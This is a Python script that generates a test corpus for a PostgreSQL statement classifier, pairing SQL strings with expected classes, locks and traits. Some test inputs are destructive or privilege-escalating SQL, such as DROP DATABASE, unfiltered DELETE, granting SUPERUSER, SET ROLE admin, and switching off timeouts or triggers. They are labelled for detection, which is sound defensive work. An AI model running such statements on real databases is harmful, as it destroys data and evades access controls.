#!/usr/bin/env python3
"""Generate tests/corpus/pg_corpus.jsonl (the PostgreSQL classifier corpus).

One JSON object per line:
  sql        the statement string (may hold several statements)
  class      expected class of the statement checked        (required unless n_stmts == 0)
  command    expected command tag                          (required unless n_stmts == 0)
  objects    expected objects, exact set                    (required unless n_stmts == 0)
  traits     traits that must be present (subset)
  not_traits traits that must be absent
  functions  functions that must be recorded (subset)
  columns    columns that must be recorded (subset)
  locks      {object: lock mode}
  n_stmts    expected number of statements (default: not checked)
  index      which statement the fields describe (default 0)
  rewrites_table  expected bool (default: not checked)
  parse_ok   expected bool (default true)
  text       expected text of the checked statement
  prepare_name / execute_name  expected names
  settings   run-time settings the statement changes (subset, canonical lower-case names)
Run: python3 tests/corpus/gen_pg_corpus.py > tests/corpus/pg_corpus.jsonl
"""
import json, sys

C = []
def e(sql, cls=None, command=None, objects=None, **kw):
    d = {"sql": sql}
    if cls is not None: d["class"] = cls
    if command is not None: d["command"] = command
    if objects is not None: d["objects"] = objects
    d.update(kw)
    C.append(d)

AS, RS, RE, SUE, SH, SRE, EX, AE = ("AccessShareLock", "RowShareLock", "RowExclusiveLock",
    "ShareUpdateExclusiveLock", "ShareLock", "ShareRowExclusiveLock", "ExclusiveLock", "AccessExclusiveLock")

# ---------------- analyst reads ----------------
e("SELECT 1", "read", "SELECT", [], not_traits=["no_limit"])
e("SELECT id, amount FROM app.transactions WHERE id = 42", "read", "SELECT", ["app.transactions"],
  locks={"app.transactions": AS}, columns=["id", "amount"], traits=["no_limit"])
e("SELECT id FROM app.transactions LIMIT 10", "read", "SELECT", ["app.transactions"], not_traits=["no_limit"])
e("SELECT id FROM t ORDER BY id OFFSET 5 LIMIT 5", "read", "SELECT", ["t"], not_traits=["no_limit"])
e("SELECT id FROM t FETCH FIRST 3 ROWS ONLY", "read", "SELECT", ["t"], not_traits=["no_limit"])
e("SELECT id FROM t ORDER BY id FETCH FIRST 3 ROWS WITH TIES", "read", "SELECT", ["t"], not_traits=["no_limit"])
e("SELECT id FROM t LIMIT ALL", "read", "SELECT", ["t"], traits=["no_limit"])
e("SELECT * FROM users", "read", "SELECT", ["users"], traits=["select_star", "no_limit"])
e("SELECT u.* FROM users u LIMIT 1", "read", "SELECT", ["users"], traits=["select_star"])
e("SELECT count(*) FROM orders", "read", "SELECT", ["orders"], not_traits=["no_limit", "unknown_function"], functions=["count"])
e("SELECT count(*), sum(amount), max(created_at) FROM orders", "read", "SELECT", ["orders"], not_traits=["no_limit"])
e("SELECT status, count(*) FROM orders GROUP BY status", "read", "SELECT", ["orders"], traits=["no_limit"])
e("SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN app.regions r ON r.id = c.region_id LIMIT 50",
  "read", "SELECT", ["orders", "customers", "app.regions"], columns=["id", "name", "customer_id", "region_id"])
e("SELECT * FROM a CROSS JOIN b NATURAL JOIN c LIMIT 1", "read", "SELECT", ["a", "b", "c"])
e("SELECT id FROM t WHERE id IN (SELECT t_id FROM u WHERE EXISTS (SELECT 1 FROM v WHERE v.x = u.x)) LIMIT 1",
  "read", "SELECT", ["t", "u", "v"])
e("SELECT (SELECT max(x) FROM s) AS m FROM t LIMIT 1", "read", "SELECT", ["t", "s"])
e("WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
  "read", "SELECT", ["orders"], functions=["now", "count"], not_traits=["writable_cte"])
e("WITH RECURSIVE tree AS (SELECT id, parent_id FROM nodes WHERE parent_id IS NULL UNION ALL SELECT n.id, n.parent_id FROM nodes n JOIN tree t ON n.parent_id = t.id) SELECT * FROM tree LIMIT 100",
  "read", "SELECT", ["nodes"])
e("WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT x FROM b", "read", "SELECT", [])
e("WITH t AS (SELECT * FROM t) SELECT * FROM t LIMIT 1", "read", "SELECT", ["t"])
e("SELECT id, row_number() OVER (PARTITION BY cat ORDER BY ts) FROM events LIMIT 10", "read", "SELECT", ["events"],
  functions=["row_number"], not_traits=["unknown_function"])
e("SELECT id, lag(v) OVER w, avg(v) OVER w FROM m WINDOW w AS (ORDER BY id) LIMIT 5", "read", "SELECT", ["m"], functions=["lag", "avg"])
e("SELECT count(*) OVER () FROM t", "read", "SELECT", ["t"], traits=["no_limit"])
e("SELECT a FROM t1 UNION SELECT a FROM t2", "read", "SELECT", ["t1", "t2"], traits=["no_limit"])
e("SELECT a FROM t1 UNION ALL SELECT a FROM t2 LIMIT 10", "read", "SELECT", ["t1", "t2"], not_traits=["no_limit"])
e("SELECT a FROM t1 INTERSECT SELECT a FROM t2 EXCEPT SELECT a FROM t3", "read", "SELECT", ["t1", "t2", "t3"])
e("VALUES (1, 'a'), (2, 'b')", "read", "SELECT", [], not_traits=["no_limit"])
e("TABLE app.accounts", "read", "SELECT", ["app.accounts"], traits=["no_limit"])
e("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id LIMIT 1) x LIMIT 5", "read", "SELECT", ["t", "u"])
e("SELECT * FROM generate_series(1, 10) g", "read", "SELECT", [], functions=["generate_series"], not_traits=["unknown_function"])
e("SELECT * FROM unnest(ARRAY[1,2]) AS x(v)", "read", "SELECT", [], functions=["unnest"])
e("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", "read", "SELECT",
  ["information_schema.tables"])
e("SELECT relname, pg_size_pretty(pg_total_relation_size(oid)) FROM pg_catalog.pg_class ORDER BY 2 DESC LIMIT 20",
  "read", "SELECT", ["pg_catalog.pg_class"], functions=["pg_size_pretty", "pg_total_relation_size"], not_traits=["unknown_function"])
e("SELECT * FROM pg_stat_activity", "read", "SELECT", ["pg_stat_activity"], traits=["sensitive_catalog"])
e("SELECT pid, state FROM pg_locks l JOIN pg_stat_activity a USING (pid) LIMIT 5", "read", "SELECT", ["pg_locks", "pg_stat_activity"],
  traits=["sensitive_catalog"])
e("SELECT lower(name), upper(code), length(x), substr(x, 1, 2), trim(y), coalesce(a, b), date_trunc('day', ts) FROM t LIMIT 1",
  "read", "SELECT", ["t"], not_traits=["unknown_function", "dangerous_function"])
e("SELECT extract(year FROM ts), substring(s FROM 1 FOR 3), position('a' IN s) FROM t LIMIT 1", "read", "SELECT", ["t"],
  functions=["extract", "substring", "position"], not_traits=["unknown_function"])
e("SELECT jsonb_build_object('a', 1), data->>'k', jsonb_array_length(data->'arr') FROM docs LIMIT 1", "read", "SELECT", ["docs"],
  not_traits=["unknown_function"])
e("SELECT current_setting('work_mem'), version(), pg_typeof(1)", "read", "SELECT", [], not_traits=["unknown_function"])
e("SELECT has_table_privilege('app.t', 'select'), pg_get_viewdef('v'::regclass)", "read", "SELECT", [], not_traits=["unknown_function"])
e("SELECT my_udf(x) FROM t LIMIT 1", "read", "SELECT", ["t"], traits=["unknown_function"], functions=["my_udf"])
e("SELECT app.calc(x) FROM t LIMIT 1", "read", "SELECT", ["t"], traits=["unknown_function"], functions=["app.calc"])
e("SELECT public.lower(x) FROM t LIMIT 1", "read", "SELECT", ["t"], traits=["unknown_function"], functions=["public.lower"])
e('SELECT "LOWER"(x) FROM t LIMIT 1', "read", "SELECT", ["t"], traits=["unknown_function"])
e('SELECT x FROM "MyTable" LIMIT 1', "read", "SELECT", ["MyTable"])
e('SELECT x FROM Sales.Orders LIMIT 1', "read", "SELECT", ["sales.orders"])
e("SELECT x FROM proddb.app.t LIMIT 1", "read", "SELECT", ["proddb.app.t"])
e("SELECT * FROM t FOR UPDATE", "read", "SELECT", ["t"], traits=["locking_read"], locks={"t": RS})
e("SELECT * FROM t a JOIN u b ON a.id = b.id FOR SHARE OF a", "read", "SELECT", ["t", "u"], traits=["locking_read"],
  locks={"t": RS, "u": AS})
e("SELECT id FROM jobs WHERE state = 'new' LIMIT 1 FOR UPDATE SKIP LOCKED", "read", "SELECT", ["jobs"], traits=["locking_read"], locks={"jobs": RS})
e("SELECT currval('s'), lastval()", "read", "SELECT", [], not_traits=["unknown_function"])
e("SELECT now(), current_date, current_user", "read", "SELECT", [])
e("EXPLAIN SELECT * FROM big", "read", "EXPLAIN", ["big"], not_traits=["executes", "no_limit"])
e("EXPLAIN (FORMAT JSON, COSTS false) SELECT * FROM big WHERE id = 1", "read", "EXPLAIN", ["big"], not_traits=["executes"])
e("EXPLAIN ANALYZE SELECT count(*) FROM big", "read", "EXPLAIN", ["big"], traits=["executes"])
e("SHOW search_path", "session", "SHOW", [])
e("SHOW ALL", "session", "SHOW", [])
e("SELECT id FROM t WHERE x = ANY(ARRAY[1,2,3]) AND y BETWEEN 1 AND 5 AND z IS NOT NULL LIMIT 3", "read", "SELECT", ["t"])
e("SELECT CASE WHEN a > 0 THEN 'p' ELSE 'n' END FROM t LIMIT 1", "read", "SELECT", ["t"])
e("SELECT * FROM t TABLESAMPLE SYSTEM (1)", "read", "SELECT", ["t"])
e("SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b LIMIT 9", "read", "SELECT", ["t"])
e("SELECT a, count(*) FROM t GROUP BY ROLLUP (a) HAVING count(*) > 1", "read", "SELECT", ["t"], traits=["no_limit"])

# ---------------- writes ----------------
e("INSERT INTO app.t (a, b) VALUES (1, 2)", "write", "INSERT", ["app.t"], locks={"app.t": RE}, columns=["a", "b"])
e("INSERT INTO t SELECT * FROM staging", "write", "INSERT", ["t", "staging"], locks={"t": RE, "staging": AS})
e("INSERT INTO t (id, v) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v", "write", "INSERT", ["t"], columns=["v"])
e("INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING RETURNING *", "write", "INSERT", ["t"])
e("INSERT INTO t DEFAULT VALUES", "write", "INSERT", ["t"])
e("UPDATE accounts SET balance = balance - 10 WHERE id = 7", "write", "UPDATE", ["accounts"], locks={"accounts": RE},
  columns=["balance", "id"], not_traits=["destructive", "no_where"])
e("UPDATE accounts SET flag = true", "write", "UPDATE", ["accounts"], traits=["destructive", "no_where"])
e("UPDATE t SET v = s.v FROM src s WHERE s.id = t.id", "write", "UPDATE", ["t", "src"], locks={"t": RE, "src": AS})
e("DELETE FROM sessions WHERE expires_at < now()", "write", "DELETE", ["sessions"], not_traits=["destructive"])
e("DELETE FROM sessions", "write", "DELETE", ["sessions"], traits=["destructive", "no_where"], locks={"sessions": RE})
e("DELETE FROM t USING u WHERE t.uid = u.id AND u.gone", "write", "DELETE", ["t", "u"], locks={"t": RE, "u": AS})
e("DELETE FROM t WHERE id IN (SELECT id FROM old_ids) RETURNING id", "write", "DELETE", ["t", "old_ids"])
e("MERGE INTO inventory i USING deliveries d ON i.sku = d.sku WHEN MATCHED THEN UPDATE SET qty = i.qty + d.qty WHEN NOT MATCHED THEN INSERT (sku, qty) VALUES (d.sku, d.qty)",
  "write", "MERGE", ["inventory", "deliveries"], locks={"inventory": RE, "deliveries": AS}, columns=["qty", "sku"])
e("COPY t FROM STDIN", "write", "COPY", ["t"], locks={"t": RE}, not_traits=["file_access"])
e("COPY t (a, b) FROM STDIN WITH (FORMAT csv)", "write", "COPY", ["t"], columns=["a", "b"])
e("COPY t TO STDOUT", "read", "COPY", ["t"], locks={"t": AS}, not_traits=["file_access"])
e("COPY (SELECT a FROM t JOIN u USING (id)) TO STDOUT WITH CSV HEADER", "read", "COPY", ["t", "u"])
e("COPY (DELETE FROM t RETURNING *) TO STDOUT", "write", "COPY", ["t"], traits=["destructive"])
e("SELECT nextval('app.order_seq')", "write", "SELECT", [], functions=["nextval"], not_traits=["dangerous_function", "unknown_function"])
e("SELECT setval('s', 100)", "write", "SELECT", [], functions=["setval"])
# Assigning a transaction ID is a write (a permanent xid, WAL, a step towards wraparound).
e("SELECT txid_current()", "write", "SELECT", [], functions=["txid_current"], not_traits=["unknown_function"])
e("SELECT pg_catalog.pg_current_xact_id()", "write", "SELECT", [], functions=["pg_catalog.pg_current_xact_id"])
e("SELECT txid_current_if_assigned(), pg_current_xact_id_if_assigned()", "read", "SELECT", [],
  not_traits=["unknown_function"])
e("SELECT a, b INTO new_table FROM t", "write", "SELECT", ["new_table", "t"], traits=["select_into"], locks={"new_table": AE})
e("SELECT * INTO TEMP tmp_x FROM t WHERE false", "write", "SELECT", ["tmp_x", "t"], traits=["select_into"])
e("TRUNCATE app.audit_log", "write", "TRUNCATE TABLE", ["app.audit_log"], traits=["destructive"], locks={"app.audit_log": AE})
e("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "write", "TRUNCATE TABLE", ["a", "b"], traits=["destructive"])
e("REFRESH MATERIALIZED VIEW mv", "write", "REFRESH MATERIALIZED VIEW", ["mv"], locks={"mv": AE}, rewrites_table=True)
e("REFRESH MATERIALIZED VIEW CONCURRENTLY app.mv", "write", "REFRESH MATERIALIZED VIEW", ["app.mv"], locks={"app.mv": EX})

# ---------------- DDL ----------------
e("CREATE TABLE app.t (id bigint PRIMARY KEY, name text NOT NULL DEFAULT '')", "ddl", "CREATE TABLE", ["app.t"],
  locks={"app.t": AE}, columns=["id", "name"])
e("CREATE TABLE IF NOT EXISTS t2 (LIKE t1 INCLUDING ALL)", "ddl", "CREATE TABLE", ["t2", "t1"], locks={"t1": AS})
e("CREATE TABLE child (extra int) INHERITS (parent)", "ddl", "CREATE TABLE", ["child", "parent"], locks={"parent": SUE})
e("CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (10)", "ddl", "CREATE TABLE", ["p1", "p"], locks={"p": AE})
e("CREATE TABLE orders (id int, cid int REFERENCES customers(id))", "ddl", "CREATE TABLE", ["orders", "customers"],
  locks={"customers": SRE})
e("CREATE TABLE t (id int, c int CHECK (my_check(c)), d timestamptz DEFAULT clock_timestamp())", "ddl", "CREATE TABLE", ["t"],
  functions=["my_check", "clock_timestamp"], traits=["unknown_function"])
e("CREATE UNLOGGED TABLE u (x int)", "ddl", "CREATE TABLE", ["u"])
e("CREATE TEMP TABLE scratch (x int)", "ddl", "CREATE TABLE", ["scratch"])
e("CREATE TABLE t_copy AS SELECT * FROM t", "ddl", "CREATE TABLE AS", ["t_copy", "t"], locks={"t_copy": AE, "t": AS})
e("CREATE MATERIALIZED VIEW mv AS SELECT a, count(*) FROM t GROUP BY a", "ddl", "CREATE MATERIALIZED VIEW", ["mv", "t"])
e("CREATE VIEW v AS SELECT a FROM t WHERE b", "ddl", "CREATE VIEW", ["v", "t"], locks={"v": AE, "t": AS})
e("CREATE OR REPLACE VIEW app.v AS SELECT * FROM app.t", "ddl", "CREATE VIEW", ["app.v", "app.t"])
e("CREATE INDEX idx_t_a ON t (a)", "ddl", "CREATE INDEX", ["t"], locks={"t": SH}, columns=["a"])
e("CREATE UNIQUE INDEX CONCURRENTLY idx ON app.t (lower(email)) WHERE deleted_at IS NULL", "ddl", "CREATE INDEX", ["app.t"],
  locks={"app.t": SUE}, functions=["lower"])
e("CREATE INDEX ON t USING gin (to_tsvector('english', body))", "ddl", "CREATE INDEX", ["t"], functions=["to_tsvector"])
e("CREATE SEQUENCE app.s START 100", "ddl", "CREATE SEQUENCE", ["app.s"])
e("ALTER SEQUENCE s RESTART WITH 1", "ddl", "ALTER SEQUENCE", ["s"], locks={"s": SRE})
e("CREATE SCHEMA reporting", "ddl", "CREATE SCHEMA", [])
e("CREATE TYPE mood AS ENUM ('sad', 'ok')", "ddl", "CREATE TYPE", [])
e("CREATE TYPE pair AS (a int, b int)", "ddl", "CREATE TYPE", [])
e("ALTER TYPE mood ADD VALUE 'happy'", "ddl", "ALTER TYPE", [])
e("CREATE DOMAIN posint AS int CHECK (VALUE > 0)", "ddl", "CREATE DOMAIN", [])
e("CREATE EXTENSION IF NOT EXISTS pgcrypto", "ddl", "CREATE EXTENSION", [], traits=["opaque_code"])
e("ALTER EXTENSION pgcrypto UPDATE", "ddl", "ALTER EXTENSION", [], traits=["opaque_code"])
e("COMMENT ON TABLE app.t IS 'facts'", "ddl", "COMMENT", ["app.t"])
e("CREATE DATABASE scratch", "ddl", "CREATE DATABASE", [])
e("DROP DATABASE scratch", "ddl", "DROP DATABASE", [], traits=["destructive"])
e("ALTER DATABASE app SET work_mem = '64MB'", "ddl", "ALTER DATABASE", [])
e("CREATE STATISTICS st (dependencies) ON a, b FROM t", "ddl", "CREATE STATISTICS", ["t"], locks={"t": SUE})
e("CREATE PUBLICATION pub FOR TABLE app.t", "ddl", "CREATE PUBLICATION", ["app.t"])
e("CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", "ddl", "CREATE SERVER", [])
e("CREATE FOREIGN TABLE ft (a int) SERVER remote", "ddl", "CREATE FOREIGN TABLE", ["ft"])
e("CREATE TABLESPACE fast LOCATION '/mnt/fast'", "ddl", "CREATE TABLESPACE", [], traits=["file_access"])
# ALTER TABLE
e("ALTER TABLE t ADD COLUMN c int", "ddl", "ALTER TABLE", ["t"], locks={"t": AE}, rewrites_table=False, columns=["c"])
e("ALTER TABLE t ADD COLUMN c int DEFAULT 0", "ddl", "ALTER TABLE", ["t"], rewrites_table=False)
e("ALTER TABLE t ADD COLUMN c timestamptz DEFAULT now()", "ddl", "ALTER TABLE", ["t"], rewrites_table=False)
e("ALTER TABLE t ADD COLUMN c double precision DEFAULT random()", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t ADD COLUMN c uuid DEFAULT gen_random_uuid()", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t ADD COLUMN c timestamptz DEFAULT clock_timestamp()", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t ADD COLUMN id2 bigserial", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t ADD COLUMN g int GENERATED ALWAYS AS (a * 2) STORED", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t ALTER COLUMN amount TYPE numeric(12,2)", "ddl", "ALTER TABLE", ["t"], rewrites_table=True, locks={"t": AE},
  columns=["amount"])
e("ALTER TABLE t ALTER COLUMN a SET STATISTICS 500", "ddl", "ALTER TABLE", ["t"], locks={"t": SUE}, rewrites_table=False)
e("ALTER TABLE t VALIDATE CONSTRAINT fk_x", "ddl", "ALTER TABLE", ["t"], locks={"t": SUE})
e("ALTER TABLE t ADD CONSTRAINT fk_x FOREIGN KEY (x) REFERENCES other (id) NOT VALID", "ddl", "ALTER TABLE", ["t", "other"],
  locks={"t": SRE, "other": SRE})
e("ALTER TABLE t ADD CONSTRAINT c_pos CHECK (a > 0)", "ddl", "ALTER TABLE", ["t"], locks={"t": AE})
e("ALTER TABLE t DROP COLUMN ssn", "ddl", "ALTER TABLE", ["t"], traits=["destructive"], columns=["ssn"], locks={"t": AE})
e("ALTER TABLE t DROP CONSTRAINT c_pos", "ddl", "ALTER TABLE", ["t"], traits=["destructive"])
e("ALTER TABLE t SET UNLOGGED", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t SET TABLESPACE fast", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t SET ACCESS METHOD heap", "ddl", "ALTER TABLE", ["t"], rewrites_table=True)
e("ALTER TABLE t SET (fillfactor = 70)", "ddl", "ALTER TABLE", ["t"], locks={"t": SUE}, rewrites_table=False)
e("ALTER TABLE t DISABLE TRIGGER ALL", "ddl", "ALTER TABLE", ["t"], locks={"t": SRE})
e("ALTER TABLE t ALTER COLUMN a SET NOT NULL", "ddl", "ALTER TABLE", ["t"], locks={"t": AE})
e("ALTER TABLE t ALTER COLUMN c SET DEFAULT 5", "ddl", "ALTER TABLE", ["t"], locks={"t": AE}, rewrites_table=False)
e("ALTER TABLE t RENAME TO t_old", "ddl", "ALTER TABLE", ["t"], locks={"t": AE})
e("ALTER TABLE t RENAME COLUMN a TO b", "ddl", "ALTER TABLE", ["t"], columns=["a"])
e("ALTER TABLE app.t SET SCHEMA archive", "ddl", "ALTER TABLE", ["app.t"])
e("ALTER TABLE p ATTACH PARTITION p2 FOR VALUES FROM (10) TO (20)", "ddl", "ALTER TABLE", ["p", "p2"], locks={"p": SUE, "p2": AE})
e("ALTER TABLE p DETACH PARTITION p2 CONCURRENTLY", "ddl", "ALTER TABLE", ["p", "p2"], locks={"p": SUE})
e("ALTER TABLE t ENABLE ROW LEVEL SECURITY", "ddl", "ALTER TABLE", ["t"], locks={"t": AE})
e("ALTER INDEX idx_a RENAME TO idx_b", "ddl", "ALTER INDEX", ["idx_a"], locks={"idx_a": AE})
e("ALTER VIEW v OWNER TO alice", "privilege", "ALTER VIEW", ["v"])
e("ALTER TABLE t OWNER TO bob", "privilege", "ALTER TABLE", ["t"])
# DROP
e("DROP TABLE app.t", "ddl", "DROP TABLE", ["app.t"], traits=["destructive"], locks={"app.t": AE})
e("DROP TABLE IF EXISTS a, b CASCADE", "ddl", "DROP TABLE", ["a", "b"], traits=["destructive"])
e("DROP VIEW v", "ddl", "DROP VIEW", ["v"], traits=["destructive"])
e("DROP MATERIALIZED VIEW mv", "ddl", "DROP MATERIALIZED VIEW", ["mv"], traits=["destructive"])
e("DROP INDEX CONCURRENTLY app.idx", "ddl", "DROP INDEX", ["app.idx"], locks={"app.idx": SUE}, traits=["destructive"])
e("DROP SEQUENCE s", "ddl", "DROP SEQUENCE", ["s"], traits=["destructive"])
e("DROP SCHEMA app CASCADE", "ddl", "DROP SCHEMA", [], traits=["destructive"])
e("DROP FUNCTION f(int)", "ddl", "DROP FUNCTION", [], traits=["destructive"])
e("DROP TRIGGER trg ON app.t", "ddl", "DROP TRIGGER", ["app.t"], traits=["destructive"])
e("DROP EXTENSION pgcrypto", "ddl", "DROP EXTENSION", [], traits=["destructive"])
e("DROP TYPE mood", "ddl", "DROP TYPE", [], traits=["destructive"])

# ---------------- privilege ----------------
e("GRANT SELECT ON app.t TO analyst", "privilege", "GRANT", ["app.t"])
e("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA app TO agent_x", "privilege", "GRANT", [])
e("REVOKE INSERT ON t FROM PUBLIC", "privilege", "REVOKE", ["t"])
e("GRANT admin TO agent_x", "privilege", "GRANT ROLE", [])
e("REVOKE admin FROM agent_x", "privilege", "REVOKE ROLE", [])
e("CREATE ROLE agent_y LOGIN PASSWORD 'x'", "privilege", "CREATE ROLE", [])
e("CREATE USER bob", "privilege", "CREATE ROLE", [])
e("ALTER ROLE agent_y SUPERUSER", "privilege", "ALTER ROLE", [])
e("ALTER USER bob SET search_path = app", "privilege", "ALTER ROLE", [])
e("DROP ROLE agent_y", "privilege", "DROP ROLE", [], traits=["destructive"])
e("ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO analyst", "privilege", "ALTER DEFAULT PRIVILEGES", [])
e("REASSIGN OWNED BY bob TO alice", "privilege", "REASSIGN OWNED", [])
e("DROP OWNED BY bob", "privilege", "DROP OWNED", [], traits=["destructive"])
e("SECURITY LABEL FOR selinux ON TABLE t IS 'system_u:object_r:sepgsql_table_t:s0'", "privilege", "SECURITY LABEL", [])
e("CREATE POLICY p ON app.t USING (owner = current_user)", "privilege", "CREATE POLICY", ["app.t"])

# ---------------- transaction ----------------
e("BEGIN", "transaction", "BEGIN", [])
e("BEGIN ISOLATION LEVEL SERIALIZABLE", "transaction", "BEGIN", [])
e("START TRANSACTION READ ONLY", "transaction", "START TRANSACTION", [])
e("COMMIT", "transaction", "COMMIT", [])
e("END", "transaction", "COMMIT", [])
e("ROLLBACK", "transaction", "ROLLBACK", [])
e("ABORT", "transaction", "ROLLBACK", [])
e("SAVEPOINT sp1", "transaction", "SAVEPOINT", [])
e("ROLLBACK TO SAVEPOINT sp1", "transaction", "ROLLBACK", [])
e("RELEASE SAVEPOINT sp1", "transaction", "RELEASE", [])
# Two-phase commit outlives the session: its own class.
e("PREPARE TRANSACTION 'tx1'", "two_phase", "PREPARE TRANSACTION", [])
e("COMMIT PREPARED 'tx1'", "two_phase", "COMMIT PREPARED", [])
e("ROLLBACK PREPARED 'tx1'", "two_phase", "ROLLBACK PREPARED", [])
e("SET CONSTRAINTS ALL DEFERRED", "transaction", "SET CONSTRAINTS", [])
# BEGIN's modes are settings: READ WRITE undoes default_transaction_read_only.
e("BEGIN", "transaction", "BEGIN", [], not_traits=["unsafe_setting"])
e("BEGIN READ WRITE", "transaction", "BEGIN", [], traits=["unsafe_setting"], settings=["transaction_read_only"])
e("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "transaction", "START TRANSACTION", [],
  traits=["unsafe_setting"], settings=["transaction_isolation", "transaction_read_only"])
e("BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE", "transaction", "BEGIN", [], not_traits=["unsafe_setting"],
  settings=["transaction_isolation", "transaction_read_only", "transaction_deferrable"])
e("START TRANSACTION READ ONLY", "transaction", "START TRANSACTION", [], not_traits=["unsafe_setting"])
e("BEGIN READ WRITE; UPDATE t SET a = 1 WHERE id = 1; COMMIT", "transaction", "BEGIN", [], n_stmts=3,
  traits=["unsafe_setting", "multi_statement"])
e("BEGIN READ WRITE; UPDATE t SET a = 1 WHERE id = 1; COMMIT", "write", "UPDATE", ["t"], index=1, not_traits=["unsafe_setting"])

# ---------------- session ----------------
# Run-time settings: the allowlist in userspace/postgres/pg_settings.c decides unsafe_setting.
e("SET statement_timeout = '5s'", "session", "SET", [], not_traits=["session_escalation", "unsafe_setting"],
  settings=["statement_timeout"])
e("SET statement_timeout = 0", "session", "SET", [], traits=["unsafe_setting"], settings=["statement_timeout"])
e("SET statement_timeout TO '100us'", "session", "SET", [], traits=["unsafe_setting"])  # rounds to 0 ms: off
e("SET statement_timeout = 1.5e3", "session", "SET", [], not_traits=["unsafe_setting"])
e('SET "Statement_Timeout" = 0', "session", "SET", [], traits=["unsafe_setting"], settings=["statement_timeout"])
e("SET STATEMENT_TIMEOUT = '1h'", "session", "SET", [], not_traits=["unsafe_setting"], settings=["statement_timeout"])
e("SET statement_timeout = '1 MIN'", "session", "SET", [], traits=["unsafe_setting"])  # units are case-sensitive
e("SET lock_timeout = '2s'", "session", "SET", [], not_traits=["unsafe_setting"], settings=["lock_timeout"])
e("SET lock_timeout TO 0", "session", "SET", [], traits=["unsafe_setting"])
e("SET idle_in_transaction_session_timeout = '10min'", "session", "SET", [], not_traits=["unsafe_setting"])
e("SET idle_session_timeout = 0", "session", "SET", [], traits=["unsafe_setting"])
e("RESET statement_timeout", "session", "RESET", [], not_traits=["unsafe_setting"], settings=["statement_timeout"])
e("SET statement_timeout TO DEFAULT", "session", "SET", [], not_traits=["unsafe_setting"], settings=["statement_timeout"])
e("SET statement_timeout FROM CURRENT", "session", "SET", [], traits=["unsafe_setting"])
e("SET application_name FROM CURRENT", "session", "SET", [], not_traits=["unsafe_setting"], settings=["application_name"])
e("SET LOCAL work_mem = '256MB'", "session", "SET", [], traits=["unsafe_setting"], settings=["work_mem"])
e("SET sort_mem = 100000", "session", "SET", [], traits=["unsafe_setting"], settings=["work_mem"])
e("RESET work_mem", "session", "RESET", [], not_traits=["unsafe_setting"], settings=["work_mem"])
e("RESET ALL", "session", "RESET", [], not_traits=["unsafe_setting", "session_escalation"])
e("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", "session", "SET", [], not_traits=["unsafe_setting"],
  settings=["transaction_isolation"])
e("SET TRANSACTION READ WRITE", "session", "SET", [], traits=["unsafe_setting"], settings=["transaction_read_only"])
e("SET TRANSACTION READ ONLY, ISOLATION LEVEL SERIALIZABLE, DEFERRABLE", "session", "SET", [],
  not_traits=["unsafe_setting"], settings=["transaction_read_only", "transaction_isolation", "transaction_deferrable"])
e("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "session", "SET", [], traits=["unsafe_setting"],
  settings=["default_transaction_read_only"])
e("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY ISOLATION LEVEL SERIALIZABLE", "session", "SET", [],
  not_traits=["unsafe_setting"], settings=["default_transaction_read_only", "default_transaction_isolation"])
e("SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", "session", "SET", [], not_traits=["unsafe_setting"])
e("SET transaction_read_only = off", "session", "SET", [], traits=["unsafe_setting"])
e("SET transaction_read_only TO on", "session", "SET", [], not_traits=["unsafe_setting"])
# transaction_read_only resets to PostgreSQL's built-in off, not to the role's default.
e("RESET transaction_read_only", "session", "RESET", [], traits=["unsafe_setting"])
e("SET transaction_read_only TO DEFAULT", "session", "SET", [], traits=["unsafe_setting"])
e("SET default_transaction_read_only = 'of'", "session", "SET", [], traits=["unsafe_setting"])  # a prefix of off
e("SET default_transaction_read_only = yes", "session", "SET", [], not_traits=["unsafe_setting"])
e("RESET default_transaction_read_only", "session", "RESET", [], not_traits=["unsafe_setting"])
e("SET ROLE admin", "session", "SET", [], traits=["session_escalation", "unsafe_setting"], settings=["role"])
e("SET LOCAL ROLE admin", "session", "SET", [], traits=["session_escalation"])
e("SET ROLE NONE", "session", "SET", [], traits=["session_escalation"])
e("SET role = 'admin'", "session", "SET", [], traits=["session_escalation"], settings=["role"])
# A governed session never changes its identity, not even back (RESET restores what the connection set).
e("RESET ROLE", "session", "RESET", [], traits=["session_escalation", "unsafe_setting"], settings=["role"])
e("SET SESSION AUTHORIZATION postgres", "session", "SET", [], traits=["session_escalation"],
  settings=["session_authorization"])
e("SET SESSION AUTHORIZATION DEFAULT", "session", "SET", [], traits=["session_escalation"])
e("RESET SESSION AUTHORIZATION", "session", "RESET", [], traits=["session_escalation", "unsafe_setting"],
  settings=["session_authorization"])
e("SET session_replication_role = replica", "session", "SET", [], traits=["session_escalation", "unsafe_setting"])
e("RESET session_replication_role", "session", "RESET", [], not_traits=["session_escalation", "unsafe_setting"])
